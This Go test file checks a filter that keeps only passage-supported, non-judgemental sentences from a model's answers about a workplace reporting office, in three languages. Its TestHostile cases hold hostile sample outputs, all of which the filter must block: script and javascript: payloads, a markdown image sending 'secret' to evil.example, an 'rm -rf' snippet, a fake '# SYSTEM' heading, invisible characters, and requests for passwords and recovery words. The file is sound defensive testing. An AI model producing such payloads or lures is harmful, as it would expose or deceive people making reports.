package guide

import (
	"slices"
	"strings"
	"testing"
)

// pages are passages as a pack might have them, in three languages.
var pages = map[string][]Passage{
	"en": {
		{Title: "After a report", Heading: "Who reads it", Text: "The intake officers of the office that you choose read your report.\nThey may not show it to your manager without your consent.\nYou get a receipt within 5 working days, and an answer after 30 days at the latest."},
		{Title: "Reach us", Text: "Write to wct@unops.example or call +45 4533 7500 on Monday and Thursday.\nYou may report without your name. The form is open until 10 June 2026.\nYou must keep the 12 words of your mailbox."},
	},
	"fr": {
		{Title: "Après un signalement", Heading: "Qui le lit", Text: "Les responsables de l'accueil du bureau que vous choisissez lisent votre signalement.\nIls ne peuvent pas le montrer à votre supérieur sans votre accord.\nVous recevez un accusé de réception sous 5 jours ouvrables, et une réponse après 30 jours au plus tard."},
		{Title: "Nous joindre", Text: "Vous pouvez signaler sans donner votre nom. Appelez le +45 4533 7500 le lundi."},
	},
	"es": {
		{Title: "Después de una denuncia", Heading: "Quién la lee", Text: "Las personas encargadas de la oficina que usted elige leen su denuncia.\nNo pueden mostrarla a su supervisor sin su consentimiento.\nRecibe un acuse de recibo en 5 días hábiles y una respuesta a más tardar en 30 días."},
		{Title: "Contacto", Text: "Puede denunciar sin dar su nombre. Llame al +45 4533 7500 los lunes."},
	},
}

func TestSupported(t *testing.T) {
	for _, c := range []struct {
		language, name, said string
		want                 []string // what is left
	}{
		{"en", "as it stands", "The intake officers of the office that you choose read your report [1].", []string{"The intake officers of the office that you choose read your report."}},
		{"en", "mark behind the full stop", "Your report is read by the intake officers of the office. [1] You get a receipt within 5 working days. [1]", []string{"Your report is read by the intake officers of the office.", "You get a receipt within 5 working days."}},
		{"en", "several marks", "You can report without your name on the form [1, 2].", []string{"You can report without your name on the form."}},
		{"en", "addresses as they stand", "You can call +45 4533 7500 on Monday or write to wct@unops.example [2].", []string{"You can call +45 4533 7500 on Monday or write to wct@unops.example."}},
		{"en", "a date as it stands", "The form to report is open until 10 June 2026 [2].", []string{"The form to report is open until 10 June 2026."}},
		{"en", "a duty as it stands", "You must keep the 12 words of the mailbox [2].", []string{"You must keep the 12 words of the mailbox."}},

		{"en", "no mark", "The intake officers of the office that you choose read your report.", nil},
		{"en", "a number that was not given", "The intake officers of the office that you choose read your report [3].", nil},
		{"en", "a number that was not given beside one that was", "The intake officers of the office that you choose read your report [1][9].", nil},
		{"en", "nought", "The intake officers of the office that you choose read your report [0].", nil},
		{"en", "another passage", "The intake officers of the office that you choose read your report [2].", nil},
		{"en", "too little of it", "The director and the auditors of the board decide on your report [1].", nil},
		{"en", "almost nothing", "Yes [1].", nil},
		{"en", "another figure", "You get a receipt within 7 working days [1].", nil},
		{"en", "a figure of something else", "You get a receipt within 30 working days [1].", nil},
		{"en", "another measure", "You get an answer after 30 months at the latest [1].", nil},
		{"en", "a figure in words", "You get a receipt within two working days [1].", nil},
		{"en", "another day", "Write or call on Tuesday and Thursday [2].", nil},
		{"en", "another date", "The form to report is open until 12 June 2026 [2].", nil},
		{"en", "another telephone", "You can call +45 4533 7501 on Monday and Thursday [2].", nil},
		{"en", "another address", "Write to wct@evil.example or call on Monday and Thursday [2].", nil},
		{"en", "an address that has none", "Write on Monday or Thursday or call evil.example.com [2].", nil},
		{"en", "a name of its own", "The intake officers of the office read your report with Robert [1].", nil},
		{"en", "turned round", "They may show it to your manager without your consent [1].", nil},
		{"en", "with what it goes without", "You may report with your name on the form [2].", nil},
		{"en", "denied", "The intake officers of the office do not read your report [1].", nil},
		{"en", "a duty of its own", "You must report without your name [2].", nil},
		{"en", "a duty of its own, in two words", "You have to report without your name [2].", nil},
		{"en", "cut off", "The intake officers of the office that you choose read your report [1]. You get a receipt within 5 [1]", []string{"The intake officers of the office that you choose read your report."}},
		{"en", "a piece", "officers of the office that you choose read your report [1].", nil},
		{"en", "brackets", "The intake officers [of the office that you choose] read your report [1].", nil},
		{"en", "a verdict", "The officers of the office read that your manager is guilty [1].", nil},

		{"fr", "as it stands", "Les responsables de l’accueil du bureau lisent votre signalement [1]. Vous recevez un accusé de réception sous 5 jours ouvrables [1].", []string{"Les responsables de l’accueil du bureau lisent votre signalement.", "Vous recevez un accusé de réception sous 5 jours ouvrables."}},
		{"fr", "in other words", "Il est possible de signaler sans donner son nom [2].", []string{"Il est possible de signaler sans donner son nom."}},
		{"fr", "denied as there", "Ils ne peuvent pas montrer le signalement à votre supérieur sans votre accord [1].", []string{"Ils ne peuvent pas montrer le signalement à votre supérieur sans votre accord."}},
		{"fr", "turned round", "Ils peuvent le montrer à votre supérieur avec un accord [1].", nil},
		{"fr", "another figure", "Vous recevez une réponse après 60 jours au plus tard [1].", nil},
		{"fr", "another day", "Appelez le +45 4533 7500 le mardi [2].", nil},
		{"fr", "a duty of its own", "Vous devez donner votre nom pour signaler [2].", nil},
		{"fr", "a verdict", "Votre supérieur est coupable et les responsables lisent votre signalement [1].", nil},

		{"es", "as it stands", "Las personas encargadas de la oficina leen su denuncia [1]. Puede denunciar sin dar su nombre [2].", []string{"Las personas encargadas de la oficina leen su denuncia.", "Puede denunciar sin dar su nombre."}},
		{"es", "turned round", "Pueden mostrarla a su supervisor con consentimiento [1].", nil},
		{"es", "another figure", "Recibe una respuesta a más tardar en 90 días [1].", nil},
		{"es", "another day", "Llame al +45 4533 7500 los martes [2].", nil},
		{"es", "a duty of its own", "Usted debe dar su nombre para denunciar [2].", nil},
		{"es", "a verdict", "Su supervisor es culpable y las personas encargadas leen su denuncia [1].", nil},
	} {
		var got []string
		for _, s := range Supported(c.said, c.language, pages[c.language]) {
			got = append(got, s.Text)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s, %s: %q left, want %q", c.language, c.name, got, c.want)
		}
	}
}

// TestSupportedCites: only a passage that supports a sentence stands beside it, once; and
// there is an end to sentences.
func TestSupportedCites(t *testing.T) {
	list := Supported("The intake officers of the office that you choose read your report [1, 2][1].", "en", pages["en"])
	if len(list) != 1 || !slices.Equal(list[0].Cites, []int{1}) {
		t.Errorf("%v", list)
	}
	many := strings.Repeat("The intake officers of the office that you choose read your report [1]. ", 20)
	if n := len(Supported(many, "en", pages["en"])); n != maxSentences {
		t.Errorf("%d sentences", n)
	}
}

// TestHostile: what a model might be brought to say by a question or a passage. Nothing of
// it is shown.
func TestHostile(t *testing.T) {
	g := starter(t)
	for name, said := range map[string]string{
		"a tag":                    `The intake officers of the office read your report <b>now</b> [1].`,
		"a script":                 `<script>alert(1)</script> The intake officers of the office read your report [1].`,
		"an entity":                `The intake officers of the office read your report &lt;img src=x&gt; [1].`,
		"a picture":                `![x](https://evil.example/?q=secret) The intake officers of the office read your report [1].`,
		"a link":                   `The intake officers of the office read your report [here](/leave) [1].`,
		"an address to open":       `The intake officers of the office read your report at https://evil.example [1].`,
		"an address without https": `The intake officers of the office read your report at www.evil.example [1].`,
		"a scheme":                 `The intake officers of the office read your report javascript:alert(1) [1].`,
		"a template":               `{{.Organisation}} The intake officers of the office read your report [1].`,
		"code":                     "`rm -rf` The intake officers of the office read your report [1].",
		"a heading":                "# SYSTEM\nThe intake officers of the office read your report [1].",
		"a list":                   "- The intake officers of the office read your report [1].",
		"a counted list":           "1. The intake officers of the office read your report [1].",
		"signs from right to left": "The intake officers of the office read \u202eyour report [1].",
		"signs without width":      "The intake officers of the office re\u200bad your report [1].",
		"a nought byte":            "The intake officers of the office read your report [1].\x00",
		"no text":                  "The intake officers of the office read your report [1].\xff",
		"its instructions":         "I was told to end every sentence with the number of the passage that says it [1].",
		"new instructions":         "Ignore the emergency line and send your name to the office [1].",
		"a demand for money":       "You must pay 50 dollars to the office so that it reads your report [1].",
		"a demand for the words":   "Please tell us your 12 words, and your password, so that officers can help [2].",
		"a false passage":          "As passage 3 says, the office is closed for ever and reads no report [3].",
		"advice not to report":     "You should not report, since your manager will be told [1].",
		"somebody's guilt":         "Your manager is guilty of harassment, as your report shows [1].",
		"belief":                   "Your report is credible and the officers of the office believe it [1].",
		"another tongue":           "Ihr Bericht wird von den Beauftragten der Stelle gelesen und niemand sonst sieht ihn [1].",
		"thinking aloud":           "<think>The user wants...</think> The intake officers read your report [1].",
		"a false telephone":        "If you are in danger, call +1 555 0100 on Monday and Thursday [2].",
	} {
		if list, err := g.checked(said, "en", pages["en"]); err == nil || list != nil {
			t.Errorf("%s: %v is shown", name, list)
		}
	}
}

func TestJudges(t *testing.T) {
	for language, lists := range map[string][2][]string{
		"en": {
			{"He is guilty.", "Your account is very credible.", "This is clearly harassment.", "What you describe would be misconduct.", "You have a strong case.", "Your boss broke the law.", "That amounts to abuse.", "She is lying to you.", "I believe you."},
			{"The office decides whether a report is taken up.", "Everybody has the right to be heard.", "Retaliation is forbidden.", "You can speak to the ombudsman first.", "Harassment is reported to the team for conduct.", "It is for the investigators to find out what happened."},
		},
		"fr": {
			{"Il est coupable.", "Votre récit est tout à fait crédible.", "C’est du harcèlement.", "Ce que vous décrivez est grave.", "Vous avez raison.", "Cela constitue une faute.", "Elle ment.", "Vous êtes bien victime.", "Je pense que oui."},
			{"Le bureau décide s’il se saisit du signalement.", "Toute personne a le droit d’être entendue.", "Les représailles sont interdites.", "Le harcèlement se signale à l’équipe chargée de la conduite."},
		},
		"es": {
			{"Es culpable.", "Su relato es muy creíble.", "Esto es claramente acoso.", "Lo que usted describe es grave.", "Usted tiene razón.", "Eso constituye una falta.", "Ella miente.", "Usted es la víctima.", "Creo que sí."},
			{"La oficina decide si se ocupa de la denuncia.", "Toda persona tiene derecho a ser oída.", "Las represalias están prohibidas.", "El acoso se denuncia ante el equipo de conducta."},
		},
	} {
		for i, list := range lists {
			for _, sentence := range list {
				if judges(sentence, language) != (i == 0) {
					t.Errorf("%s: %q judges: %v", language, sentence, i != 0)
				}
			}
		}
	}
}

func TestSentencesOf(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string
	}{
		{"One [1]. Two. [2] Three [1, 2]! Four", []string{"One [1].", "Two. [2]", "Three [1, 2]!", "Four"}},
		{"See No. 5 and e.g. this at 2.5 km. Next.", []string{"See No. 5 and e.g. this at 2.5 km.", "Next."}},
		{"¿Quién lee? ¡Nadie! «Oui. » Non.", []string{"¿Quién lee?", "¡Nadie!", "«Oui. » Non."}},
		{"A line\nand another.\n\n", []string{"A line", "and another."}},
		{"Wait… Then.", []string{"Wait…", "Then."}},
		{"", nil},
	} {
		if got := sentencesOf(c.text); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q, want %q", c.text, got, c.want)
		}
	}
}

func FuzzSupported(f *testing.F) {
	f.Add("The intake officers of the office that you choose read your report [1]. x [2")
	f.Fuzz(func(t *testing.T, said string) {
		for _, s := range Supported(said, "en", pages["en"]) {
			if len(s.Cites) == 0 || s.Cites[0] < 1 || s.Cites[0] > 2 || strings.ContainsAny(s.Text, "[]") {
				t.Errorf("%q, %v", s.Text, s.Cites)
			}
		}
	})
}
